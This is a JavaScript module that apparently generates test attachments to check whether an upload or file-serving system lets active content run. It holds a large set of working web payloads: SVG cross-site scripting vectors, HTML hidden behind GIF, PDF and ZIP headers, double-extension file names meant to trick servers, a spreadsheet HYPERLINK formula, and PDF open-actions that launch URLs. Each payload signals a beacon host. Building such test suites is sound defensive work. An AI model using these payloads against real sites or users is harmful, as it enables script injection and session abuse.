/**
 * Attached files with active content: each format that a stranger might send, made so that it would tell of itself if it ran
 * (`/ran/…`) or asked another site for something (`/asked/…`).
 *
 * @typedef {object} Row
 * @property {string} name
 * @property {Buffer} bytes
 */

/** Endings that are on no list of formats, with pages in them. */
const UNLISTED = (
  'htm html xht xhtml shtml shtm stm hta htc mht mhtml url webloc js mjs css json jsonld yaml yml toml ini conf config ' +
  'log tex bib ps eps ics vcf eml msg srt vtt m3u m3u8 pls inc tpl bak old orig tmp dat bin xyz 0 php php3 php5 php7 phtml phar ' +
  'cgi pl py rb sh bat cmd ps1 vbs asp aspx ashx asa cer jsp jspx do cfm var asis map htaccess swf jar class wasm exe dll ' +
  'docm xlsm pptm gz tgz tar 7z rar iso epub webmanifest appcache'
).split(' ');

/** Endings of XML, with a script of XHTML's namespace in it. */
const XML = 'xml xsl xslt xsd rng rdf rss atom mathml mml gpx kml xul xbl xspf plist dae wsdl fodt'.split(' ');

/** Endings that are on the list, with a page in them instead of what they say. */
const LISTED = (
  'pdf doc docx dot dotx odg odp ods odt otp ots ott pot potx pps ppsx ppt pptx rtf xls xlsx xlt xltx avif bmp gif heic heif jfif ' +
  'jpeg jpg png tif tiff webp 3gp aac amr avi flac m4a m4v mkv mov mp3 mp4 mpeg mpg oga ogg ogv opus wav weba webm wma wmv zip ' +
  'csv text tsv txt'
).split(' ');

/** What pictures may hold: the inside of an `<svg>`. */
const DRAWINGS = [
  ['frame', '<h:frame xmlns:h="XHTML" src="javascript:parent.RUN"/>'],
  ['iframe', '<h:iframe xmlns:h="XHTML" src="ASK" onload="RUN"/>'],
  ['form', '<h:form xmlns:h="XHTML" action="ASK"><h:button style="position:fixed;inset:0;width:100%;height:100%" autofocus="autofocus">x</h:button></h:form>'],
  ['formaction', '<h:form xmlns:h="XHTML"><h:button style="position:fixed;inset:0;width:100%;height:100%" formaction="javascript:RUN" autofocus="autofocus">x</h:button></h:form>'],
  ['login', '<h:body xmlns:h="XHTML"><h:form action="ASK"><h:input type="password" name="p" autofocus="autofocus"/><h:button style="position:fixed;inset:0;width:100%;height:100%">x</h:button></h:form></h:body>'],
  ['refresh', '<h:meta xmlns:h="XHTML" http-equiv="refresh" content="0;url=ASK"/>'],
  ['img', '<h:img xmlns:h="XHTML" src="ASK" onerror="RUN"/>'],
  ['stylesheet', '<h:link xmlns:h="XHTML" rel="stylesheet" href="ASK"/>'],
  ['xhtml-script', '<h:script xmlns:h="XHTML">RUN</h:script>'],
  ['object', '<h:object xmlns:h="XHTML" data="ASK"/>'],
  ['embed', '<h:embed xmlns:h="XHTML" src="ASK"/>'],
  ['video', '<h:video xmlns:h="XHTML" poster="ASK" src="ASK"/>'],
  ['audio', '<h:audio xmlns:h="XHTML" src="ASK" autoplay="autoplay"/>'],
  ['base', '<h:base xmlns:h="XHTML" href="OTHER"/><image href="asked/IDbase" width="9" height="9"/>'],
  ['math', '<m:math xmlns:m="http://www.w3.org/1998/Math/MathML"><m:mtext href="javascript:RUN">x</m:mtext></m:math>'],
  ['script', '<script>RUN</script>'],
  ['script-href', '<script href="ASK"/>'],
  ['script-xlink', '<script xlink:href="ASK"/>'],
  ['script-prefix', '<s:script xmlns:s="http://www.w3.org/2000/svg">RUN</s:script>'],
  ['onload', '<g onload="RUN"/><rect width="9" height="9" onload="RUN"/>'],
  ['onclick', '<rect width="2000" height="2000" onclick="RUN" onmousemove="RUN"/>'],
  ['onbegin', '<animate onbegin="RUN" attributeName="x" dur="1s"/>'],
  ['href', '<a href="javascript:RUN"><rect width="2000" height="2000"/></a>'],
  ['xlink', '<a xlink:href="javascript:RUN"><rect width="2000" height="2000"/></a>'],
  ['elsewhere', '<a href="ASK"><rect width="2000" height="2000"/></a>'],
  ['animate-href', '<a><animate attributeName="href" values="javascript:RUN" begin="0s" dur="9s"/><rect width="2000" height="2000"/></a>'],
  ['set-href', '<a><set attributeName="xlink:href" to="javascript:RUN"/><rect width="2000" height="2000"/></a>'],
  ['foreign', '<foreignObject width="900" height="900"><h:img xmlns:h="XHTML" src="x" onerror="RUN"/></foreignObject>'],
  ['image', '<image href="ASK" width="9" height="9"/>'],
  ['image-xlink', '<image xlink:href="ASK" width="9" height="9"/>'],
  ['use', '<use href="ASK#a"/>'],
  ['fe-image', '<filter id="f"><feImage href="ASK"/></filter><rect width="99" height="99" filter="url(#f)"/>'],
  ['fill', '<rect width="99" height="99" fill="url(ASK#a)"/>'],
  ['mask', '<rect width="99" height="99" mask="url(ASK#a)" style="mask: url(ASK)"/>'],
  ['css-import', '<style>@import url("ASK");</style>'],
  ['css-escaped', '<style>@\\69mport "ASK";</style>'],
  ['css-url', '<style>rect { fill: red; background: url(ASK); cursor: url(ASK), auto; mask-image: url(ASK) }</style><rect width="99" height="99"/>'],
  ['css-font', '<style>@font-face { font-family: x; src: url(ASK) } text { font-family: x }</style><text y="20">x</text>'],
  ['css-image-set', '<style>svg { background: image-set("ASK" 1x) }</style>'],
  ['set-fill', '<rect width="99" height="99"><set attributeName="fill" to="url(ASK#a)"/></rect>'],
  ['handler', '<handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">RUN</handler>'],
  ['comment', '<!--> <img src="ASK" onerror="RUN"> -->'],
  ['cdata', '<title><![CDATA[> <img src="ASK" onerror="RUN">]]></title>'],
  ['pi', '<?xml-stylesheet type="text/css" href="ASK"?>'],
];

/**
 * Returns the table; what runs asks `beacon` for `ran/` and the number of the row.
 *
 * @param {string} beacon The address of another site, with a slash at its end.
 * @returns {Row[]}
 */
export function rows(beacon) {
  /** @type {Row[]} */
  const table = [];
  /**
   * @param {string} end What the name ends in, the dot included.
   * @param {(fill: (text: string) => string) => string | Buffer} make
   */
  const add = (end, make) => {
    const id = String(table.length).padStart(3, '0');
    // As a value of no kind: a link that had one would show it, and stop what it had begun.
    const run = `void(new Image().src='${beacon}ran/${id}')`;
    const fill = (/** @type {string} */ text) =>
      text
        .replaceAll('RUN', run)
        .replaceAll('ASK', `${beacon}asked/${id}`)
        .replaceAll('OTHER', beacon)
        .replaceAll('ID', id)
        .replaceAll('XHTML', 'http://www.w3.org/1999/xhtml');
    table.push({ name: `a${id}${end}`, bytes: Buffer.from(make(fill)) });
  };
  const page = '<!doctype html><meta charset="utf-8"><title>x</title><script>RUN</script><img src="ASK"><p>x';
  const xml = '<?xml version="1.0"?>\n<html xmlns="XHTML"><head><script>RUN</script></head><body><img src="ASK"/></body></html>';
  const svg = (/** @type {string} */ inside) =>
    `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="2000" height="2000">${inside}</svg>`;

  add('', (fill) => fill(page));
  add('', (fill) => fill(svg('<script>RUN</script>')));
  for (const end of UNLISTED) add(`.${end}`, (fill) => fill(page));
  for (const end of XML) add(`.${end}`, (fill) => fill(xml));
  for (const end of LISTED) add(`.${end}`, (fill) => fill(page));

  for (const [, inside] of DRAWINGS) add('.svg', (fill) => fill(svg(/** @type {string} */ (inside))));
  add('.svg', (fill) => fill(`<svg xmlns="http://www.w3.org/2000/svg" onload="RUN"/>`));
  add('.svg', (fill) => fill(xml));
  add('.svg', (fill) => fill(page));
  add('.svg', (fill) => fill(`<?xml-stylesheet type="text/css" href="ASK"?>${svg('')}`));
  add('.svg', (fill) => fill(`<!DOCTYPE svg [<!ENTITY a "<script xmlns='http://www.w3.org/2000/svg'>RUN</script>">]>${svg('&a;')}`));
  add('.svg', (fill) => Buffer.from(fill(`\ufeff<?xml version="1.0" encoding="UTF-16"?>${svg('<script>RUN</script>')}`), 'utf16le'));
  add('.svg', (fill) => fill(`<?xml version="1.0" encoding="UTF-7"?>${svg('+ADw-script+AD4-RUN+ADw-/script+AD4-')}`));
  add('.svgz', (fill) => fill(svg('<script>RUN</script>')));
  add('.SVG', (fill) => fill(svg('<script>RUN</script>')));

  // The marks of other formats, with a page behind them or before.
  for (const end of ['gif', 'bmp', 'avif', 'html', 'xyz', 'webp']) add(`.${end}`, (fill) => fill(`GIF89a/*${page}*/`));
  for (const end of ['pdf', 'html', 'xyz', 'doc']) add(`.${end}`, (fill) => fill(`%PDF-1.4\n${page}`));
  for (const end of ['mp4', 'heic', 'avif', 'm4a', 'mov']) add(`.${end}`, (fill) => fill(`<b> ftypisom\0\0\0\0${page}`));
  for (const end of ['docx', 'zip', 'odt', 'epub', 'xlsx']) add(`.${end}`, (fill) => Buffer.concat([Buffer.from('PK\x03\x04\x14\0\0\0'), Buffer.from(fill(page))]));
  add('.mp3', (fill) => fill(`ID3\x03\0\0\0\0\0\0${page}`));
  add('.rtf', (fill) => fill(`{\\rtf1 ${page}}`));
  add('.ogg', (fill) => fill(`OggS\0${page}`));
  add('.txt', (fill) => fill(` \n\ufeff${page}`));
  add('.csv', (fill) => Buffer.from(fill(`\ufeff${page}`), 'utf16le'));
  add('.csv', (fill) => fill(`=HYPERLINK("ASK")\n${page}`));

  // Names of which a server may take another part than the last.
  for (const end of ['html.pdf', 'html.avif', 'svg.webp', 'xhtml.heic', 'php.pdf', 'phtml.pdf', 'cgi.pdf', 'shtml.pdf', 'asp;.pdf', 'php.x.pdf']) {
    add(`.${end}`, (fill) => fill(`%PDF-1.4\n<?php echo 1 ?><!--#echo var="DATE_GMT" -->${page}`));
  }
  add('.var.txt', (fill) => fill(`URI: x; Content-Type: text/html\nBody:----x----\n${page}\n----x----\n`));
  add('.var', (fill) => fill(`Content-Type: text/html\nBody:----x----\n${page}\n----x----\n`));
  for (const end of ['shtml.txt', 'php.txt', 'asis.txt', 'html.utf7.txt', 'html.gz.txt', 'html.es.txt', 'svg.gz']) {
    add(`.${end}`, (fill) => fill(`<!--#echo var="DATE_GMT" -->${page}`));
  }

  // Active parts of formats that are on the list.
  const action = (/** @type {string} */ what) => (/** @type {(text: string) => string} */ fill) => fill(pdf(what));
  add('.pdf', action('<< /S /JavaScript /JS (app.launchURL\\("ASK", true\\); this.submitForm\\("ASK"\\);) >>'));
  add('.pdf', action('<< /S /URI /URI (ASK) >>'));
  add('.pdf', action('<< /S /SubmitForm /F << /FS /URL /F (ASK) >> >>'));
  add('.pdf', action('<< /S /Launch /F (ASK) >>'));
  add('.pdf', action('<< /S /GoToR /F (ASK) /D [0 /Fit] >>'));
  return table;
}

/**
 * Returns a PDF of one empty page that does something when it is opened.
 *
 * @param {string} action
 */
function pdf(action) {
  const objects = [
    `<< /Type /Catalog /Pages 2 0 R /OpenAction ${action} >>`,
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 300 300] /AA << /O ${action} >> >>`,
  ];
  let text = '%PDF-1.7\n';
  const places = objects.map((object, index) => {
    const place = text.length;
    text += `${index + 1} 0 obj\n${object}\nendobj\n`;
    return place;
  });
  const start = text.length;
  const entries = places.map((place) => `${String(place).padStart(10, '0')} 00000 n \n`).join('');
  return `${text}xref\n0 4\n0000000000 65535 f \n${entries}trailer << /Size 4 /Root 1 0 R >>\nstartxref\n${start}\n%%EOF\n`;
}
